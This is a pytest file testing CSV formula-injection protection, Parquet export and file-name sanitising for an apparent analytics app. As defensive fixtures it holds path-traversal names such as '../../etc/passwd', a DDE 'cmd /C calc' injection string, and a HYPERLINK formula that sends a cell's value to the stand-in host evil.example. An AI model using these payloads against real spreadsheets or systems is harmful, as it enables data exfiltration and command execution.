"""Safe downloads: formula-injection protection, Parquet round trip, file-name sanitising."""

from __future__ import annotations

import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from analysis.export import FORMULA_START, protect_formulas, safe_filename, to_parquet, to_safe_csv
from analysis.ingest import load_events


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_starting_with_a_formula_character_is_neutralised(start: str) -> None:
    out = protect_formulas(pl.DataFrame({"t": [f"{start}SUM(A1)"]}))
    assert out["t"].item() == f"'{start}SUM(A1)"


def test_plain_text_numbers_and_nulls_are_left_alone() -> None:
    frame = pl.DataFrame({"t": ["ok", "a=b", None], "n": [-1, 2, 3], "f": [-1.5, 0.0, None]})
    assert_frame_equal(protect_formulas(frame), frame)


def test_categorical_cells_are_protected_as_text() -> None:
    frame = pl.DataFrame({"c": pl.Series(["@x", "y"], dtype=pl.Categorical)})
    assert protect_formulas(frame)["c"].to_list() == ["'@x", "y"]


def test_csv_bytes_hold_no_live_formula() -> None:
    data = to_safe_csv(pl.DataFrame({"name": ["=HYPERLINK(\"http://x\")", "+1", "Anna"], "n": [1, 2, 3]}))
    rows = pl.read_csv(io.BytesIO(data))["name"].to_list()
    assert rows == ["'=HYPERLINK(\"http://x\")", "'+1", "Anna"]


def test_list_columns_are_joined_and_protected() -> None:
    data = to_safe_csv(pl.DataFrame({"path": [["=a", "b"], ["c"]]}))
    assert data.decode() == "path\n'=a > b\nc\n"


def test_the_input_is_not_modified() -> None:
    frame = pl.DataFrame({"t": ["=1"]})
    to_safe_csv(frame)
    assert frame["t"].item() == "=1"


def test_parquet_keeps_the_exact_data() -> None:
    frame = pl.DataFrame({"t": ["=1", "-2"], "n": [1.5, None], "p": [["a"], []]})
    assert_frame_equal(pl.read_parquet(io.BytesIO(to_parquet(frame))), frame)


@pytest.mark.parametrize(("hostile", "safe"), [
    ("../../etc/passwd", "etc_passwd"),
    ("..\\..\\Windows\\system32\\cmd.exe", "Windows_system32_cmd.exe"),
    ("Käufer: März 2026.csv", "Kaufer_Marz_2026.csv"),
    ("=cmd|' /C calc'!A0.csv", "cmd_C_calc_A0.csv"),
    ("CON.csv", "journeylens.csv"),
    ("", "journeylens"),
    ("\u202egnp.exe", "gnp.exe"),
    ("a\x00b\nc.csv", "a_b_c.csv"),
    ("C:\\Users\\x\\my report (1).csv", "C_Users_x_my_report_1.csv"),  # an uploaded file's name (Data page)
    (".bashrc", "bashrc"),
    ("Käufer — März 2026!", "Kaufer_Marz_2026"),  # a snapshot title (Snapshots page)
])
def test_a_hostile_file_name_yields_a_safe_one(hostile: str, safe: str) -> None:
    assert safe_filename(hostile) == safe


def test_a_name_with_nothing_left_takes_the_callers_default() -> None:
    assert safe_filename("...", default="snapshot") == "snapshot"


@given(st.text(max_size=300))
def test_every_file_name_is_safe(text: str) -> None:
    name = safe_filename(text)
    assert name and len(name) <= 80
    assert all(c.isascii() and (c.isalnum() or c in "._-") for c in name)
    assert not name.startswith((".", "-")) and ".." not in name


HOSTILE_HEADER = '=HYPERLINK("http://evil.example/?"&A2,"click")'


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_header_starting_with_a_formula_character_is_neutralised(start: str) -> None:
    data = to_safe_csv(pl.DataFrame({f"{start}cmd": ["x"], "ok": ["y"]}))
    header = pl.read_csv(io.BytesIO(data)).columns
    assert header == [f"'{start}cmd", "ok"]


@pytest.mark.parametrize("equals", ["\uff1d", "\ufe66"])
def test_fullwidth_and_small_form_equals_are_protected_in_cells_and_headers(equals: str) -> None:
    out = protect_formulas(pl.DataFrame({f"{equals}1+1": [f"{equals}SUM(A1)"]}))
    assert out.columns == [f"'{equals}1+1"]
    assert out.item() == f"'{equals}SUM(A1)"


def test_the_rejected_rows_csv_protects_a_hostile_column_name() -> None:
    header = f'user_id,timestamp,event,"{HOSTILE_HEADER.replace(chr(34), chr(34) * 2)}"\n'
    good = "".join(f"u{i},2026-01-0{i} 10:00:00,view,x\n" for i in range(1, 6))
    csv = header + good + "u9,2026-01-01 10:00:00,,x\n"
    report = load_events(("hostile.csv", csv.encode()), max_rejected_share=0.5).report
    first_line = report.rejected_rows_csv().decode().splitlines()[0]
    assert "=HYPERLINK" in first_line
    assert not any(cell.lstrip('"').startswith("=") for cell in first_line.split(","))


@given(st.text(min_size=1, max_size=12))
def test_no_header_or_cell_of_safe_csv_starts_like_a_formula(text: str) -> None:
    frame = pl.DataFrame({text: [text]})
    out = protect_formulas(frame)
    for value in [*out.columns, out.item()]:
        assert not value.startswith(FORMULA_START)
